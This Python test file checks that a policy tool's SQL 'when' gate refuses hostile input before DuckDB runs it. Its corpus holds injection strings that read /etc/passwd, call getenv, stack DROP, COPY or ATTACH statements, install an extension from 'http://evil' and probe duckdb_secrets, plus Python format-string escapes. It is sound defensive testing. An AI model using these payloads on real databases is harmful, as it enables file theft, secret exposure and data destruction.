"""Hostile policy texts: every one refused with a clear message, and none reaches the database.

A policy pack is user-written YAML whose ``when`` is SQL. ``parse_when`` is the only gate
between that text and the statement DuckDB runs, so anything that is not a plain condition over
the snapshot's columns must come back as an ``ExpressionError`` naming the problem — directly,
and through ``load_library`` as an ``IssuesError`` pointing at the file and the ``when:`` line,
before any snapshot is read.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest

from pasar.kit.issues import IssuesError
from pasar.metrics import expressions
from pasar.metrics.catalog import load_catalog
from pasar.metrics.expressions import MAX_LENGTH, ExpressionError
from pasar.policy.evaluate import evaluate
from pasar.policy.packs import PolicyLibrary, load_library, snapshot_columns
from pasar.policy.predicate import parse_when
from pasar.policy.template import parse_template
from tests.sqlglot_logging import quiet_sqlglot as quiet_sqlglot  # the autouse fixture

CATALOG = load_catalog([])
COLUMNS = snapshot_columns(CATALOG, "seller")

SUBQUERY = "when may not use a subquery"
TWO = "when must be one expression, found 2 statements"
INVALID = "when is not a valid SQL expression"
CONDITION = "when must be a condition such as `orders_7d >= 10`, not a value"
NESTED = "when is nested"
TOO_LONG = f"when is longer than {MAX_LENGTH} characters"


def case(text: str, expected: str, id: str, *marks: pytest.MarkDecorator) -> Any:
    return pytest.param(text, expected, id=id, marks=marks)


HOSTILE: list[Any] = [
    # -- subqueries, however they are written
    case("orders_7d IN (SELECT orders_7d FROM orders)", SUBQUERY, "in-subquery"),
    case("EXISTS (SELECT 1)", "when may not use function exists()", "exists"),
    case("orders_7d > (SELECT max(orders_7d) FROM orders)", SUBQUERY, "scalar-subquery"),
    case("orders_7d > 1 AND (SELECT 1) = 1", SUBQUERY, "subquery-inside-and"),
    case("orders_7d IN (1, (SELECT 2))", SUBQUERY, "subquery-in-in-list"),
    case("orders_7d > ANY (SELECT 1)", "when may not use Any", "any-subquery"),
    case("orders_7d > ALL (SELECT 1)", "when may not use All", "all-subquery"),
    case("orders_7d > 1 UNION SELECT 1", SUBQUERY, "union"),
    case("WITH a AS (SELECT 1) SELECT * FROM a", SUBQUERY, "with-cte"),
    case("orders_7d > (FROM orders SELECT 1)", SUBQUERY, "from-first-subquery"),
    case("orders_7d = 1 OR 1 = (VALUES 1)", SUBQUERY, "values-subquery"),
    case("orders_7d IN UNNEST([1])", SUBQUERY, "in-unnest"),
    case("seller_id = (SELECT getenv('HOME'))", SUBQUERY, "subquery-getenv"),
    case(
        "orders_7d > (SELECT count(*) FROM read_csv('/etc/passwd'))",
        SUBQUERY,
        "subquery-read-csv",
    ),
    # -- second statements
    case("orders_7d > 1; DROP TABLE orders", TWO, "semicolon-drop"),
    case("orders_7d > 1; COPY orders TO '/tmp/x.csv'", TWO, "semicolon-copy"),
    case("orders_7d > 1 OR TRUE; VACUUM", TWO, "semicolon-vacuum"),
    case(
        "orders_7d IS NOT NULL; SELECT * FROM read_text('/etc/passwd')",
        TWO,
        "semicolon-read-text",
    ),
    case(
        "orders_7d > 1; DROP TABLE a; DROP TABLE b",
        "when must be one expression, found 3 statements",
        "three-statements",
    ),
    # -- comments hiding statements
    case("orders_7d > 1 /* */; ATTACH 'x.db'", TWO, "block-comment-attach"),
    case("orders_7d > 1 /* ; */ ; DELETE FROM orders", TWO, "semicolon-in-comment"),
    case("-- comment\n; PRAGMA enable_profiling", TWO, "line-comment-pragma"),
    case("orders_7d > 1 -- hi\n; DETACH x", TWO, "after-line-comment-detach"),
    case(
        "orders_7d > 1 -- c\n; SELECT * FROM read_csv('/etc/passwd')",
        TWO,
        "after-line-comment-read-csv",
    ),
    case("/* x */ ; DROP TABLE t", TWO, "leading-comment-drop"),
    case("-- orders_7d > 1", "when must be one expression, found 0 statements", "only-comment"),
    case("orders_7d > 1 /* unterminated", INVALID, "unterminated-comment"),
    # -- statements as the whole text
    case("COPY orders TO '/tmp/x.csv'", "when may not use Copy", "copy"),
    case("COPY (SELECT 1) TO '/tmp/x.csv'", "when may not use Copy", "copy-query"),
    case("ATTACH 'x.db'", "when may not use Attach", "attach"),
    case("DETACH x", "when may not use Detach", "detach"),
    case("PRAGMA version", "when may not use Pragma", "pragma"),
    case("INSTALL httpfs", "when may not use Install", "install"),
    case("INSTALL httpfs FROM 'http://evil'", "when may not use Install", "install-from"),
    case("LOAD httpfs", "when may not use Command", "load"),
    case("SET threads = 1", "when may not use Set", "set"),
    case("SET VARIABLE x = 1", "when may not use Set", "set-variable"),
    case("RESET threads", "when may not use Command", "reset"),
    case("CALL pragma_version()", "when may not use Command", "call"),
    case("EXPORT DATABASE '/tmp/dump'", INVALID, "export-database"),
    case("IMPORT DATABASE '/tmp/dump'", INVALID, "import-database"),
    case("CREATE TABLE x AS SELECT 1", "when may not use Create", "create-table"),
    case("CREATE MACRO m(a) AS a", "when may not use Create", "create-macro"),
    case("CREATE SECRET s (TYPE s3, KEY_ID 'x')", "when may not use Command", "create-secret"),
    case("INSERT INTO orders VALUES (1)", "when may not use Insert", "insert"),
    case("UPDATE orders SET gmv = 0", "when may not use Update", "update"),
    case("DELETE FROM orders", "when may not use Delete", "delete"),
    case("DROP TABLE orders", "when may not use Drop", "drop"),
    case("USE other", "when may not use Use", "use"),
    case("SUMMARIZE orders", "when may not use Summarize", "summarize"),
    case("CHECKPOINT", "when: unknown column 'CHECKPOINT'", "checkpoint"),
    # -- table functions, file readers and other functions off the list
    case("read_csv('/etc/passwd') IS NOT NULL", "may not use function read_csv()", "read-csv"),
    case("read_csv_auto('x') IS NULL", "may not use function read_csv_auto()", "read-csv-auto"),
    case(
        "read_parquet('s3://b/x.parquet') IS NULL",
        "may not use function read_parquet()",
        "read-parquet",
    ),
    case("read_json_auto('x.json') IS NULL", "may not use function read_json_auto()", "read-json"),
    case("read_text('/etc/passwd') IS NOT NULL", "may not use function read_text()", "read-text"),
    case(
        "CAST(read_text('/etc/passwd') AS VARCHAR) = ''",
        "may not use function read_text()",
        "read-text-in-cast",
    ),
    case("glob('*') IS NULL", "may not use function glob()", "glob"),
    case("getenv('HOME') = 'x'", "may not use function getenv()", "getenv"),
    case("orders_7d > length(getenv('HOME'))", "may not use function getenv()", "getenv-nested"),
    case("current_setting('x') = 'y'", "may not use function current_setting()", "setting"),
    case("getvariable('x') IS NULL", "may not use function getvariable()", "getvariable"),
    case("query('select 1') IS NULL", "may not use function query()", "query"),
    case("query_table('orders') IS NULL", "may not use function query_table()", "query-table"),
    case(
        "sql_auto_complete('SEL') IS NULL",
        "may not use function sql_auto_complete()",
        "sql-auto-complete",
    ),
    case("seller_id = 'x' AND nextval('s') > 1", "may not use function nextval()", "nextval"),
    case("random() > 0.5", "may not use function rand()", "random"),
    case("seller_id = repeat('a', 1000000000)", "may not use function repeat()", "repeat"),
    case("sum(orders_7d) > 1", "may not use function sum()", "aggregate-sum"),
    case("count(*) > 1", "may not use function count()", "aggregate-count"),
    case("sum(orders_7d) OVER () > 1", "when may not use Window", "window"),
    # -- the system catalog
    case("duckdb_settings() IS NULL", "may not use function duckdb_settings()", "settings"),
    case("duckdb_tables() IS NULL", "may not use function duckdb_tables()", "duckdb-tables"),
    case(
        "pragma_database_list() IS NULL",
        "may not use function pragma_database_list()",
        "pragma-function",
    ),
    case("(SELECT * FROM duckdb_secrets()) IS NULL", SUBQUERY, "secrets"),
    case(
        "(SELECT count(*) FROM information_schema.tables) > 0",
        SUBQUERY,
        "information-schema-subquery",
    ),
    case(
        "information_schema.tables.table_name = 'x'",
        "when: write column 'table_name' without a table name",
        "information-schema-column",
    ),
    case("orders_7d > current_database()", "function current_database()", "current-database"),
    case("version() = 'x'", "may not use function current_version()", "version"),
    # -- qualified column names
    case(
        "orders.seller_id > 1",
        "when: write column 'seller_id' without a table name",
        "qualified-column",
    ),
    case("main.orders_7d > 1", "write column 'orders_7d' without a table name", "schema-column"),
    case(
        "memory.main.snap.orders_7d > 1",
        "write column 'orders_7d' without a table name",
        "catalog-column",
    ),
    case(
        "__policy_snapshot.orders_7d > 1",
        "write column 'orders_7d' without a table name",
        "internal-table-column",
    ),
    # -- building text: concatenation, formatting, odd string literals
    case("'a' || 'b' = 'ab'", "when may not use DPipe", "concat-pipe"),
    case("seller_id = chr(59) || 'DROP TABLE x'", "when may not use DPipe", "concat-chr"),
    case("concat('SELE', 'CT') = 'x'", "may not use function concat()", "concat"),
    case("seller_id = concat_ws(';', 'a', 'b')", "may not use function concat_ws()", "concat-ws"),
    case("seller_id = printf('%s', 'x')", "may not use function printf()", "printf"),
    case("format('{}', 1) = '1'", "may not use function format()", "format"),
    case("seller_id = $$x$$", "when may not use RawString", "dollar-quoted"),
    case("seller_id = E'\\x27'", "when may not use ByteString", "escape-string"),
    case(
        '"orders_7d""; DROP TABLE x; --" > 1',
        "when: unknown column 'orders_7d\"; DROP TABLE x; --'",
        "quoted-identifier-injection",
    ),
    # -- unknown columns, with a suggestion when one is close
    case(
        "late_dispatch_rat_7d >= 0.1",
        "when: unknown column 'late_dispatch_rat_7d' (did you mean late_dispatch_rate_7d?)",
        "misspelt-column",
    ),
    case(
        "Orders_7d > 1",
        "when: unknown column 'Orders_7d' (did you mean orders_7d?)",
        "column-case",
    ),
    case("password IS NULL", "when: unknown column 'password'", "unknown-column"),
    # -- values, not conditions
    case("orders_7d", f"{CONDITION} (orders_7d)", "bare-column"),
    case("orders_7d + 1", f"{CONDITION} (orders_7d + 1)", "arithmetic"),
    case("(orders_7d)", f"{CONDITION} (orders_7d)", "parenthesised-column"),
    case("-orders_7d", CONDITION, "negated-column"),
    case("abs(orders_7d)", CONDITION, "function-value"),
    case("NULL", f"{CONDITION} (NULL)", "null"),
    case("'x'", f"{CONDITION} ('x')", "string"),
    case("CASE WHEN orders_7d > 1 THEN TRUE ELSE FALSE END", CONDITION, "case"),
    case("coalesce(orders_7d > 1, FALSE)", CONDITION, "coalesce-of-condition"),
    case("orders_7d >= 10 AND gmv_7d", CONDITION, "value-under-and"),
    case("orders_7d > 1 OR seller_id", CONDITION, "value-under-or"),
    case("NOT orders_7d", CONDITION, "value-under-not"),
    # -- empty, long, deep
    case("", "when is empty", "empty"),
    case("  \n\t ", "when is empty", "blank"),
    case("orders_7d > 1" + " OR orders_7d > 1" * 300, TOO_LONG, "long-or-chain"),
    case("orders_7d > 1" + " " * MAX_LENGTH, TOO_LONG, "long-padding"),
    case("seller_id = '" + "x" * MAX_LENGTH + "'", TOO_LONG, "long-string"),
    case("NOT " * 2000 + "orders_7d > 1", TOO_LONG, "2000-nots"),
    case("(" * 500 + "orders_7d > 1" + ")" * 500, NESTED, "500-parentheses"),
    case("NOT " * 900 + "orders_7d > 1", NESTED, "900-nots"),
    case("orders_7d > 1" + " AND orders_7d > 1" * 150, NESTED, "150-ands"),
    case("coalesce(" * 300 + "orders_7d" + ")" * 300 + " > 1", NESTED, "300-coalesce"),
    case("- " * 1000 + "orders_7d > 1", NESTED, "1000-minus-signs"),
    # -- lambdas and list comprehensions
    case(
        "list_transform([1, 2], x -> x + 1) IS NULL",
        "may not use function transform()",
        "lambda-transform",
    ),
    case("list_filter([1], x -> x > 0) IS NULL", "may not use function filter()", "lambda-filter"),
    case("(x -> x + 1) IS NULL", "may not use function", "bare-lambda"),
    case("[x + 1 FOR x IN [1, 2]] IS NULL", "may not use function array()", "comprehension"),
    # -- casts to types off the list
    case("orders_7d::BLOB IS NULL", "when may not cast to VARBINARY", "cast-blob"),
    case("CAST(orders_7d AS INTERVAL) IS NULL", "when may not cast to INTERVAL", "cast-interval"),
    case("orders_7d::JSON IS NULL", "when may not cast to JSON", "cast-json"),
    case("orders_7d::STRUCT(a INT) IS NULL", "when may not cast to STRUCT", "cast-struct"),
    case("CAST(orders_7d AS MAP(INT, INT)) IS NULL", "when may not cast to MAP", "cast-map"),
    case("orders_7d::UUID IS NULL", "when may not cast to UUID", "cast-uuid"),
    case("orders_7d::BIT IS NULL", "when may not cast to BIT", "cast-bit"),
    case("orders_7d::TIMESTAMP IS NULL", "when may not cast to TIMESTAMP", "cast-timestamp"),
    case("TRY_CAST(orders_7d AS BLOB) IS NULL", "when may not cast to VARBINARY", "try-cast-blob"),
    # -- Unicode lookalikes
    case(
        "\u043erders_7d > 1",  # Cyrillic о
        "when: unknown column '\u043erders_7d' (did you mean orders_7d?)",
        "cyrillic-o",
    ),
    case("orders\u200b_7d > 1", "(did you mean orders_7d?)", "zero-width-space"),
    case("ＯＲＤＥＲＳ_7D > 1", "when: unknown column 'ＯＲＤＥＲＳ_7D'", "fullwidth-letters"),
    case("orders_7d > \u0661", "when: unknown column '\u0661'", "arabic-indic-digit"),
    case("orders_7d ＞ 1", INVALID, "fullwidth-greater-than"),
    case("orders_7d \u2265 1", INVALID, "greater-or-equal-sign"),
    case("orders_7d > 1；DROP TABLE x", INVALID, "fullwidth-semicolon"),
    case("orders_7d > 1\u037e DROP TABLE x", INVALID, "greek-question-mark"),
    case("orders_7d > 1 A\u039dD gmv_7d > 1", INVALID, "greek-nu-in-and"),
    case("orders_7d > 1 \u2014 DROP TABLE x", INVALID, "em-dash-comment"),
    # -- placeholders and operators off the list
    case("orders_7d > $1", "when may not use Placeholder", "placeholder-dollar"),
    case("orders_7d > ?", "when may not use Placeholder", "placeholder-question"),
    case("seller_id SIMILAR TO 'x'", "when may not use SimilarTo", "similar-to"),
    case("seller_id GLOB '*'", "when may not use Glob", "glob-operator"),
    case("regexp_matches(seller_id, 'x')", "may not use function regexp_like()", "regexp"),
]


def refused(text: str) -> str:
    """The message of the ``ExpressionError`` that ``parse_when`` raises for ``text``."""
    with pytest.raises(ExpressionError) as info:
        parse_when(text, COLUMNS)
    return str(info.value)


@pytest.mark.parametrize(("text", "expected"), HOSTILE)
def test_hostile_when_is_refused(text: str, expected: str) -> None:
    message = refused(text)
    assert expected in message
    assert message.startswith("when")  # says what was refused
    assert "Traceback" not in message
    assert len(message) < 400  # one readable line, not a dump of the input
    assert "\n" not in message


class SpyConnection:
    """A DuckDB connection that records every SQL text it is asked to run."""

    def __init__(self) -> None:
        self.con = duckdb.connect()
        self.statements: list[str] = []
        self.registered: list[str] = []

    def sql(self, text: str, params: dict[str, object] | None = None) -> duckdb.DuckDBPyRelation:
        self.statements.append(text)
        return self.con.sql(text, params=params)

    def register(self, name: str, table: pa.Table) -> None:
        self.registered.append(name)
        self.con.register(name, table)

    def unregister(self, name: str) -> None:
        self.con.unregister(name)


def seller_snapshot() -> pa.Table:
    return pa.table(
        {
            "seller_id": ["s1", "s2", "s3"],
            "as_of": pa.array([dt.date(2026, 3, 1)] * 3, pa.date32()),
            "orders_7d": pa.array([5, 2, None], pa.int64()),
            "gmv_7d": pa.array([10.0, 0.0, 1.0], pa.float64()),
            # what the shipped seller packs read
            "late_dispatch_rate_7d": pa.array([0.5, None, 0.0], pa.float64()),
            "seller_fault_cancellation_rate_7d": pa.array([None, 0.2, 0.0], pa.float64()),
            "listing_findings_counterfeit_90d": pa.array([0, 1, 0], pa.int64()),
            "listing_findings_prohibited_90d": pa.array([0, 0, 2], pa.int64()),
            "listing_findings_ip_90d": pa.array([1, 0, 0], pa.int64()),
            "listing_findings_misleading_90d": pa.array([0, 0, 0], pa.int64()),
            "seller_fault_return_rate_30d": pa.array([0.0, None, 0.05], pa.float64()),
            "negative_review_rate_90d": pa.array([0.01, None, 0.2], pa.float64()),
        }
    )


def write_pack(directory: Path, when: str, explain_en: str = "Fired") -> tuple[Path, int, int]:
    """A one-policy pack file with ``when`` (JSON-quoted, which YAML reads as a double-quoted
    string); the file, the line of its ``when:`` key and the line of its ``explain:`` key."""
    lines = [
        "pack: hostile-probe",
        "version: 1",
        "region: ID",
        "entity: seller",
        "effective_from: 2026-01-01",
        "policies:",
        "  - id: hostile",
        "    version: 1",
        "    outcome: {kind: gate}",
        f"    explain: {{en: {json.dumps(explain_en)}, id: Terpicu}}",
        f"    when: {json.dumps(when)}",
    ]
    path = directory / "hostile.yml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path, len(lines), len(lines) - 1


def evaluate_everything(con: Any, library: PolicyLibrary, snapshot: pa.Table) -> None:
    """What a run does once the library has loaded: every seller pack over the snapshot."""
    for name in library.names():
        for pack in library.versions(name):
            if pack.entity == "seller":
                evaluate(con, library.policies(pack), snapshot, dt.date(2026, 3, 1), "seller_id")


@pytest.mark.parametrize(("text", "expected"), HOSTILE)
def test_hostile_when_in_a_pack_fails_to_load_before_any_evaluation(
    tmp_path: Path, text: str, expected: str
) -> None:
    path, line, _ = write_pack(tmp_path, text)
    spy = SpyConnection()
    with pytest.raises(IssuesError) as info:
        evaluate_everything(spy, load_library(CATALOG, [tmp_path]), seller_snapshot())
    message = str(info.value)
    assert message.startswith("policy packs have problems: 1 problem\n")
    assert f"{path}:{line}: policy hostile: " in message
    assert expected in message
    [issue] = info.value.issues
    assert (issue.file, issue.line) == (str(path), line)
    assert issue.message.startswith("policy hostile: when")
    # nothing was evaluated: no statement, no snapshot registered
    assert spy.statements == []
    assert spy.registered == []


def test_the_pack_writer_produces_a_loadable_pack(tmp_path: Path) -> None:
    """The harness itself: a harmless ``when`` loads and evaluates through the spy."""
    write_pack(tmp_path, "orders_7d >= 5 AND gmv_7d > 0")
    library = load_library(CATALOG, [tmp_path])
    pack = library.version("hostile-probe", 1)
    findings = evaluate(
        duckdb.connect(),
        library.policies(pack),
        seller_snapshot(),
        dt.date(2026, 3, 1),
        "seller_id",
    )
    assert findings.column("subject").to_pylist() == ["s1"]
    # and the spy sees what a run does: the probe and the findings of each seller pack version
    spy = SpyConnection()
    evaluate_everything(spy, library, seller_snapshot())
    seller_packs = [p for n in library.names() for p in library.versions(n) if p.entity == "seller"]
    assert [p.ref for p in seller_packs] == [
        "account-health@1",
        "hostile-probe@1",
        "tiktok-sea@1",
        "tokopedia-id@1",
        "tokopedia-id@2",
    ]
    assert len(spy.statements) == 2 * len(seller_packs)
    assert "__policy_snapshot" in spy.registered


# -- texts DuckDB itself would run: the gate is what keeps them away --------------------------

REACHING_OUT = [
    pytest.param(
        "orders_7d > (SELECT count(*) FROM read_csv('{path}', header = false))",
        SUBQUERY,
        "read",
        id="subquery-read-csv",
    ),
    pytest.param(
        "orders_7d IN (SELECT column0 + 2 FROM read_csv('{path}', header = false))",
        SUBQUERY,
        "read",
        id="in-subquery-read-csv",
    ),
    pytest.param(
        "orders_7d > 1; COPY (SELECT 42 AS x) TO '{path}'",
        TWO,
        "write",
        id="second-statement-copy",
    ),
    pytest.param(
        "orders_7d > 1 /* */; ATTACH '{path}' AS evil",
        TWO,
        "write",
        id="comment-then-attach",
    ),
]


@pytest.mark.parametrize(("template", "expected", "kind"), REACHING_OUT)
def test_file_access_duckdb_would_run_never_happens(
    tmp_path: Path, template: str, expected: str, kind: str
) -> None:
    control, guarded = tmp_path / "control", tmp_path / "guarded"
    control.mkdir()
    guarded.mkdir()
    packs = tmp_path / "packs"
    packs.mkdir()
    # the control: DuckDB on its own runs the text and touches the file
    control_file = control / "sentinel.csv"
    if kind == "read":
        control_file.write_text("1\n2\n3\n", encoding="utf-8")
    con = duckdb.connect()
    con.register("snapshot", seller_snapshot())
    fired = con.execute(
        f"SELECT seller_id FROM snapshot WHERE {template.format(path=control_file)}"
    ).fetchall()
    if kind == "read":
        assert fired == [("s1",)]  # 5 > 3 rows of the file; 5 = 3 + 2 for the IN form
    else:
        assert control_file.exists()  # COPY wrote it, ATTACH created it
    # through Pasar: the pack does not load, so the file is neither read nor written. For a
    # read the sentinel does not exist: had DuckDB run the text it would fail to open it.
    sentinel = guarded / "sentinel.csv"
    path, line, _ = write_pack(packs, template.format(path=sentinel))
    spy = SpyConnection()
    with pytest.raises(IssuesError) as info:
        evaluate_everything(spy, load_library(CATALOG, [packs]), seller_snapshot())
    assert f"{path}:{line}: policy hostile: {expected}" in str(info.value)
    assert spy.statements == []
    assert not sentinel.exists()
    assert list(guarded.iterdir()) == []


# -- depth beyond the length limit -------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "NOT " * 2000 + "orders_7d > 1",
        "(" * 5000 + "orders_7d > 1" + ")" * 5000,
        "orders_7d > 1" + " AND orders_7d > 1" * 2000,
    ],
    ids=["2000-nots", "5000-parentheses", "2000-ands"],
)
def test_depth_alone_refuses_deep_conditions(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """With the length limit lifted, depth must still stop these (and no RecursionError)."""
    monkeypatch.setattr(expressions, "MAX_LENGTH", 10**7)
    assert NESTED in refused(text)


# -- what is harmless stays harmless -----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "sql"),
    [
        ("seller_id = 'x'' ; DROP TABLE orders; --'", "seller_id = 'x'' ; DROP TABLE orders; --'"),
        ("orders_7d > 1 -- ; DROP TABLE orders\n", "orders_7d > 1"),
        ("orders_7d > 1 /* ; ATTACH 'x.db' */", "orders_7d > 1"),
        ('"orders_7d" > 1', '"orders_7d" > 1'),
        ("orders_7d::VARCHAR = '5'", "CAST(orders_7d AS TEXT) = '5'"),
    ],
    ids=["string-literal", "line-comment", "block-comment", "quoted-column", "varchar-cast"],
)
def test_harmless_text_is_accepted_without_comments(text: str, sql: str) -> None:
    assert parse_when(text, COLUMNS).sql("duckdb") == sql


def test_a_string_that_looks_like_sql_is_only_compared(tmp_path: Path) -> None:
    write_pack(tmp_path, "seller_id = 's1''; DROP TABLE __policy_snapshot; --' OR orders_7d = 2")
    library = load_library(CATALOG, [tmp_path])
    pack = library.version("hostile-probe", 1)
    findings = evaluate(
        duckdb.connect(),
        library.policies(pack),
        seller_snapshot(),
        dt.date(2026, 3, 1),
        "seller_id",
    )
    assert findings.column("subject").to_pylist() == ["s2"]


# -- explanation templates ---------------------------------------------------------------------

HOSTILE_TEMPLATES = [
    pytest.param(
        "{orders_7d.__class__}",
        "explanation: unknown column {orders_7d.__class__} (did you mean orders_7d?)",
        id="attribute",
    ),
    pytest.param(
        "{orders_7d.__class__.__mro__[1].__subclasses__}",
        "explanation: unknown column {orders_7d.__class__",
        id="attribute-chain",
    ),
    pytest.param("{orders_7d[0]}", "unknown column {orders_7d[0]}", id="index"),
    pytest.param("{orders_7d!r}", "explanation: field {orders_7d!r} may not use !", id="repr"),
    pytest.param("{orders_7d!s:>10}", "may not use !", id="conversion-and-spec"),
    pytest.param("{unknown}", "explanation: unknown column {unknown}", id="unknown"),
    pytest.param("{}", "explanation: unknown column {}", id="positional"),
    pytest.param("{0}", "explanation: unknown column {0}", id="numbered"),
    pytest.param("{ orders_7d }", "unknown column { orders_7d }", id="spaces"),
    pytest.param(
        "{orders_7d:%s}",
        "explanation: format {orders_7d:%s} is not one of d, ,d, .2f, ,.0f, .1%, money",
        id="percent-s",
    ),
    pytest.param("{orders_7d:{gmv_7d}}", "format {orders_7d:{gmv_7d}} is not one of", id="nested"),
    pytest.param("{orders_7d:>1000000}", "format {orders_7d:>1000000} is not one", id="width"),
    pytest.param("{orders_7d:.100f}", "format {orders_7d:.100f} is not one of", id="precision"),
    pytest.param("{orders_7d:x}", "format {orders_7d:x} is not one of", id="hex"),
    pytest.param("{orders_7d:e}", "format {orders_7d:e} is not one of", id="exponent"),
    pytest.param(
        "Rate {orders_7d",
        "explanation: expected '}' before end of string (write {{ and }} for literal braces)",
        id="unclosed",
    ),
    pytest.param("Rate {", "Single '{' encountered in format string", id="lone-open"),
    pytest.param("Rate }", "Single '}' encountered in format string", id="lone-close"),
]


@pytest.mark.parametrize(("text", "expected"), HOSTILE_TEMPLATES)
def test_hostile_template_is_refused(text: str, expected: str) -> None:
    with pytest.raises(ExpressionError) as info:
        parse_template(text, COLUMNS)
    assert expected in str(info.value)
    assert str(info.value).startswith("explanation")


@pytest.mark.parametrize(("text", "expected"), HOSTILE_TEMPLATES[:6])
def test_hostile_template_in_a_pack_names_the_explain_line(
    tmp_path: Path, text: str, expected: str
) -> None:
    path, _, explain_line = write_pack(tmp_path, "orders_7d > 1", explain_en=text)
    with pytest.raises(IssuesError) as info:
        load_library(CATALOG, [tmp_path])
    [issue] = info.value.issues
    assert (issue.file, issue.line) == (str(path), explain_line)
    assert issue.message.startswith("policy hostile: explain.en: ")
    assert expected.removeprefix("explanation: ") in issue.message


# -- the corpus itself -------------------------------------------------------------------------


def test_corpus_size() -> None:
    print(f"hostile when texts: {len(HOSTILE)}; hostile templates: {len(HOSTILE_TEMPLATES)}")
    assert len(HOSTILE) >= 40
    assert len(HOSTILE_TEMPLATES) >= 10
    ids = [p.id for p in HOSTILE]
    assert len(ids) == len(set(ids))
